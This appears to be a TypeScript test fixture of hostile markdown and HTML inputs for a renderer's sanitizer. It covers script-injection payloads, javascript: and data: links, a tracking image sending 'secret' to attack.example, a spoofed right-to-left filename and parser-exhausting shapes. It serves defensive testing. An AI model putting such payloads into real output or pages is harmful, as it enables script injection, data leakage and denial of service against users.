/** Replies that want to run, fetch, cover or break something: every attack in every place that markdown has. */

const HTML = [
  '<script>globalThis.attacked = true</script>',
  '<img src=x onerror="globalThis.attacked = true">',
  '<svg onload="globalThis.attacked = true"></svg>',
  '<iframe srcdoc="<script>parent.attacked = true</script>"></iframe>',
  '<style>* { display: none !important }</style>',
  '<div style="position:fixed;inset:0;z-index:9999;background:red">x</div>',
  '<link rel="stylesheet" href="/attack.css">',
  '<meta http-equiv="refresh" content="0;url=/attack">',
  '<base href="https://attack.example/">',
  '<form action="/attack"><button>go</button></form>',
  '<video src="/attack.mp4" autoplay></video>',
  '<object data="/attack.swf"></object>',
  '<template><script>globalThis.attacked = true</script></template>',
  '<a href="javascript:globalThis.attacked=true">x</a>',
  '<input autofocus onfocus="globalThis.attacked = true">',
  '<!-- --!><img src=x onerror="globalThis.attacked = true">',
];
const LINKS = [
  '[x](javascript:globalThis.attacked=true)',
  '[x](java\nscript:globalThis.attacked=true)',
  '[x](&#106;avascript:globalThis.attacked=true)',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x]( \u0001javascript:globalThis.attacked=true)',
  '<javascript:globalThis.attacked=true>',
  '![x](/attack.png)',
  '![x](https://attack.example/pixel.png?q=secret)',
  '![x](//attack.example/pixel.png "title")',
  '[![x](/attack.png)](javascript:globalThis.attacked=true)',
  '[r]\n\n[r]: javascript:globalThis.attacked=true',
  '[\u202egnp.exe](https://attack.example)',
];
const SHAPES = [
  '| a |'.repeat(300),
  `|${'a|'.repeat(200)}\n|${'-|'.repeat(200)}\n|${'x'.repeat(5000)}|`,
  '```\nnever closed '.repeat(20),
  'x'.repeat(20_000),
  `${'- '.repeat(200)}deep`,
  `${'> '.repeat(300)}deep`,
  '['.repeat(2000),
  '*'.repeat(3000),
  '`'.repeat(1001),
  `${'~~a *b '.repeat(1000)}x${' b* a~~'.repeat(1000)}`,
  `${'<b>'.repeat(2000)}x${'</b>'.repeat(2000)}`,
  '\\'.repeat(9000),
  'a\u0301'.repeat(3000),
  `Z${'\u0335\u0336\u0337\u0338'.repeat(500)}`,
  '\u202eright to left\u202c \u2066 isolated \u2069 \u202d over',
  `${'&'.repeat(5000)};`,
  '\u0000\u0001\u0002\ufeff\ufffe',
  `${'#'.repeat(7)} ${'\n#'.repeat(500)}`,
];
const PLACES: readonly ((attack: string) => string)[] = [
  (attack) => attack,
  (attack) => `Words before ${attack} and after`,
  (attack) => `- ${attack}\n- ${attack}`,
  (attack) => `> ${attack}`,
  (attack) => `| h |\n|---|\n| ${attack.replaceAll('\n', ' ')} |`,
  (attack) => `# ${attack}`,
  (attack) => `\`\`\`html\n${attack}\n\`\`\``,
  (attack) => `**${attack}`,
];

/** All of them. */
export const HOSTILE: readonly string[] = [
  ...[...HTML, ...LINKS].flatMap((attack) => PLACES.map((place) => place(attack))),
  ...SHAPES,
  ...SHAPES.map((shape) => `1. ${shape}`),
];
